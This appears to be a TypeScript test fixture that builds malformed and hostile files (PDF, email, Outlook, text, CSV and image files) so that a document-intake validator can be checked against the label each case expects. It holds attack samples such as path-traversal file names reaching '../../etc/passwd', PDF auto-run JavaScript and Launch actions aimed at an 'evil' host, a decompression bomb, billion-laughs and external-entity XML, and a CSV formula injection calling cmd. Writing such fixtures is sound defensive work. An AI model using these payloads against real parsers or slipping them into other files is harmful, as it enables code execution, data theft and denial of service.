// As `harms.fixture.ts`: kinds that are no packages.
import { once } from 'node:events';
import { deflateSync } from 'node:zlib';
import PDFDocument from 'pdfkit';
import { compoundFile, docx } from '../docx.fixture.ts';
import { broken, FROM_OUTSIDE, type Harms, LAUGHS, zeros } from './harms.fixture.ts';
import * as made from './kinds.fixture.ts';

const MB = 1024 * 1024;

/** As a printer makes them, with a password that has to be known to open it. */
async function lockedPdf(): Promise<Buffer> {
  const doc = new PDFDocument({ userPassword: 'secret', pdfVersion: '1.7' });
  const chunks: Buffer[] = [];
  doc.on('data', (chunk: Buffer) => chunks.push(chunk));
  const ended = once(doc, 'end');
  doc.text('Budget').end();
  await ended;
  return Buffer.concat(chunks);
}

const stream = (bytes: Buffer | string, more = '') =>
  Buffer.concat([Buffer.from(`<<${more}>>\nstream\n`), Buffer.from(bytes), Buffer.from('\nendstream')]);
const metadata = (xml: string): Buffer =>
  made.pdf('a', {
    catalogue: '/Metadata 6 0 R',
    more: [stream(`${xml}<x>&l9;&x;</x>`, '/Type/Metadata/Subtype/XML/Length 9')],
  });
/** A page with this content, which may draw a form. */
const drawing = (content: Buffer, form: Buffer | string = '<<>>'): Buffer =>
  made.pdfOf([
    '<</Type/Catalog/Pages 2 0 R>>',
    '<</Type/Pages/Kids[3 0 R]/Count 1>>',
    '<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R/Resources<</XObject<</X 5 0 R>>>>>>',
    content,
    form,
  ]);
const IN_ITSELF = '/Type/XObject/Subtype/Form/BBox[0 0 1 1]/Resources<</XObject<</X 5 0 R>>>>/Length 5';
const inFlate = deflateSync(Buffer.from('BT /F 12 Tf 50 700 Td (Budget) Tj ET'));

const pdf: Harms = {
  nothing: ['PDF', () => made.pdf('a')],
  'another ending': ['PDF', () => made.pdf('a')],
  'cut off': ['damaged', () => made.pdf('a').subarray(0, -60)],
  locked: ['encrypted', lockedPdf],
  'a bomb': ['too_complex', () => made.pdfBomb(400 * MB)],
  'says it has 2 GB': ['PDF', () => made.pdf('a', { more: [stream('x', '/Length 2147483648')] })],
  'entities in entities': ['PDF', () => metadata(LAUGHS)],
  'an entity from outside': ['PDF', () => metadata(FROM_OUTSIDE)],
  'names that climb out': [
    'pdf_embedded_files',
    () =>
      made.pdf('a', {
        more: ['<</Type/Filespec/F(../../etc/passwd)/EF<</F 7 0 R>>>>', stream('x', '/Type/EmbeddedFile')],
      }),
  ],
  macros: ['pdf_scripts', () => made.pdf('a', { catalogue: '/OpenAction<</S/JavaScript/JS%\n(app.alert(1))>>' })],
  'loads from outside': [
    'pdf_launches',
    () => made.pdf('a', { catalogue: '/OpenAction<</S/Launch/F(\\\\\\\\evil\\\\a)>>' }),
  ],
  '10,000 deep': ['PDF', () => made.pdf('a', { catalogue: `/X ${'['.repeat(10_000)}${']'.repeat(10_000)}` })],
  'a broken directory': ['PDF', () => broken(made.pdf('a'), 'xref\n0')],
  'everything twice': ['PDF', () => Buffer.concat([made.pdf('a'), made.pdf('a')])],
  'a wrong checksum': [
    'PDF',
    () => drawing(stream(broken(inFlate, inFlate.subarray(-4)), `/Filter/FlateDecode/Length ${inFlate.length}`)),
  ],
  'broken letters': ['PDF', () => made.pdf('\xff\xfe\x80')],
  NUL: ['PDF', () => made.pdf('a\0\0b')],
  'no end of size': [
    'PDF',
    () =>
      made.pdfOf([
        '<</Type/Catalog/Pages 2 0 R>>',
        '<</Type/Pages/Kids[3 0 R]/Count 2147483647>>',
        '<</Type/Page/Parent 2 0 R>>',
      ]),
  ],
  'goes round in circles': [
    'damaged',
    () => made.pdfOf(['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids[2 0 R]/Count 1>>']),
  ],
  'no end of one thing': ['PDF', () => drawing(stream('/X Do', '/Length 5'), stream('/X Do', IN_ITSELF))],
};

const multipart = (...parts: readonly string[]) =>
  made.mail(['Content-Type: multipart/mixed; boundary=b'], parts.map((part) => `--b\r\n${part}\r\n`).join(''));
const attached = (name: string, bytes: Buffer) =>
  `Content-Disposition: attachment; filename="${name}"\r\nContent-Transfer-Encoding: base64\r\n\r\n${bytes.toString('base64')}`;
const html = (body: string) => made.mail(['Content-Type: text/html; charset=utf-8'], body);
const ENVELOPED = 'Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name="smime.p7m"';

/** What is attached is kept as it came and never unpacked; a mail is what it was when it came. */
const mail: Harms = {
  nothing: ['MAIL', () => multipart('\r\na')],
  'another ending': ['MAIL', () => multipart('\r\na')],
  'cut off': ['MAIL', () => multipart(attached('a.docx', docx())).subarray(0, -400)],
  locked: ['encrypted', () => made.mail([ENVELOPED], 'MIIB')],
  'a bomb': ['MAIL', () => multipart(attached('a.docx', docx(['題'], [zeros('a.bin', 11 * MB)])))],
  'says it has 2 GB': ['MAIL', () => made.mail(['Content-Length: 2147483648'], 'a')],
  'entities in entities': ['MAIL', () => html(`${LAUGHS}<p>&l9;</p>`)],
  'an entity from outside': ['MAIL', () => html(`${FROM_OUTSIDE}<p>&x;</p>`)],
  'names that climb out': ['MAIL', () => multipart(attached('../../etc/passwd', Buffer.from('x')))],
  macros: ['MAIL', () => multipart(attached('a.docm', docx()))],
  'loads from outside': [
    'MAIL',
    () => multipart('Content-Type: message/external-body; access-type=URL; URL="http://evil/"\r\n\r\n'),
  ],
  '10,000 deep': ['too_complex', () => made.nestedMail(10_000)],
  '10,000 parts': [
    'too_complex',
    () => multipart(...Array.from({ length: 10_000 }, (_, at) => attached(`${at}`, Buffer.from('x')))),
  ],
  'a broken directory': [
    'MAIL',
    () => made.mail(['Content-Type: multipart/mixed; boundary=c'], '--b\r\n\r\na\r\n--b--'),
  ],
  'everything twice': ['MAIL', () => made.mail(['Subject: a', 'Subject: b', 'From: c@example.jp'], 'a')],
  'a wrong checksum': ['MAIL', () => multipart('Content-Transfer-Encoding: base64\r\n\r\n=$%&*!')],
  'broken letters': [
    'MAIL',
    () => Buffer.concat([made.mail(['Subject: =?UTF-8?B?5Luk?='], ''), Buffer.from('e4bbff', 'hex')]),
  ],
  NUL: ['MAIL', () => made.mail(['Subject: a\0b'], 'c\0d')],
  'no end of size': ['too_complex', () => made.mail([`Subject: ${'a'.repeat(2 * MB)}`], 'a')],
  'goes round in circles': ['MAIL', () => multipart('Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n\r\na')],
  'no end of one thing': ['MAIL', () => html('<script '.repeat(500_000))],
};

const outlookFile = () => compoundFile(['Root Entry', '__properties_version1.0', '__nameid_version1.0', 'a', 'b']);
/** With a number of the header replaced. */
const withField = (at: number, value: number, bytes = outlookFile()): Buffer => {
  const changed = Buffer.from(bytes);
  changed.writeUInt32LE(value, at);
  return changed;
};
/** The sector behind the last one is named as one that names more, and names itself as the next. */
const inCircles = (): Buffer => {
  const last = outlookFile().length / 512 - 1;
  const itself = Buffer.alloc(512, 0xff);
  itself.writeUInt32LE(last, 508);
  return Buffer.concat([withField(0x44, last), itself]);
};

const outlook: Harms = {
  nothing: ['OUTLOOK_MAIL', outlookFile],
  'another ending': ['OUTLOOK_MAIL', outlookFile],
  'cut off': ['damaged', () => outlookFile().subarray(0, -512)],
  locked: ['encrypted', () => compoundFile(['EncryptionInfo', 'EncryptedPackage'])],
  'says it has 2 GB': ['damaged', () => withField(0x4c, 2 ** 22)],
  macros: ['macros', () => compoundFile(['__properties_version1.0', '_VBA_PROJECT'])],
  'a broken directory': ['damaged', () => withField(0x30, 0xfffffffe)],
  'everything twice': ['OUTLOOK_MAIL', () => compoundFile(['__properties_version1.0', '__properties_version1.0'])],
  'goes round in circles': ['damaged', inCircles],
};

const LINE = '令和8年度 予定,庁舎改修費,1200000\r\n';
const lines = (times: number) => Buffer.from(LINE.repeat(times));

const text: Harms = {
  nothing: ['TEXT', () => Buffer.from('令和')],
  'another ending': ['TEXT', () => Buffer.from('令和')],
  'cut off': ['TEXT', () => Buffer.from('令和8年度').subarray(0, -1)],
  'a bomb': ['TEXT', () => Buffer.alloc(49 * MB, '令和')],
  'entities in entities': ['TEXT', () => Buffer.from(`${LAUGHS}<a>&l9;</a>`)],
  'an entity from outside': ['TEXT', () => Buffer.from(`${FROM_OUTSIDE}<a>&x;</a>`)],
  'broken letters': ['not_a_docx', () => Buffer.from('e4bbffe4', 'hex')],
  NUL: ['not_a_docx', () => Buffer.from('令和\0')],
  'no end of one thing': ['TEXT', () => Buffer.from(`${' '.repeat(3 * MB)}令`)],
};

const table: Harms = {
  nothing: ['CSV', () => lines(2)],
  'another ending': ['CSV', () => lines(2)],
  'cut off': ['CSV', () => lines(2).subarray(0, -1)],
  'a bomb': ['CSV', () => lines((49 * MB) / Buffer.byteLength(LINE))],
  macros: ['CSV', () => Buffer.from(`=cmd|'/c calc'!A1,b\r\n=HYPERLINK("http://evil/"),c\r\n`)],
  'broken letters': ['not_a_docx', () => Buffer.concat([lines(2), Buffer.from('ff', 'hex')])],
  NUL: ['not_a_docx', () => Buffer.concat([lines(2), Buffer.alloc(1)])],
  'no end of size': ['TEXT', () => Buffer.from(`${'a,'.repeat(20_000)}\r\n`.repeat(3))],
};

const headerOf = (width: number, height: number): Buffer => {
  const bytes = Buffer.alloc(13);
  bytes.writeUInt32BE(width);
  bytes.writeUInt32BE(height, 4);
  bytes.write('0806', 8, 'hex');
  return bytes;
};

const png: Harms = {
  nothing: ['PNG', () => made.png()],
  'another ending': ['PNG', () => made.png()],
  'cut off': ['damaged', () => made.png().subarray(0, -12)],
  'says it has 2 GB': ['damaged', () => Buffer.from(made.png().toString('hex').replace('0000000d', '7fffffff'), 'hex')],
  'a wrong checksum': ['damaged', () => broken(made.png(), 'IHDR', 2)],
  'no end of size': ['PNG', () => made.png(headerOf(2 ** 31 - 1, 2 ** 31 - 1))],
};

const jpeg: Harms = {
  nothing: ['JPEG', () => made.jpeg()],
  'another ending': ['JPEG', () => made.jpeg()],
  'cut off': ['damaged', () => made.jpeg().subarray(0, -4)],
  'no end of size': ['damaged', () => Buffer.from('ffd8ffe0ffff4a46ffda0004000011223344ffd9', 'hex')],
};

const tiff: Harms = {
  nothing: ['TIFF', () => made.tiff(2)],
  'another ending': ['TIFF', () => made.tiff(2)],
  'cut off': ['damaged', () => made.tiff(2).subarray(0, -4)],
  'says it has 2 GB': ['damaged', () => made.tiff(2, 2 ** 31)],
  '10,000 parts': ['damaged', () => made.tiff(10_002)],
  'goes round in circles': ['damaged', () => made.tiff(3, 8)],
};

export const LOOSE: Readonly<Record<string, Harms>> = { pdf, mail, outlook, text, table, png, jpeg, tiff };
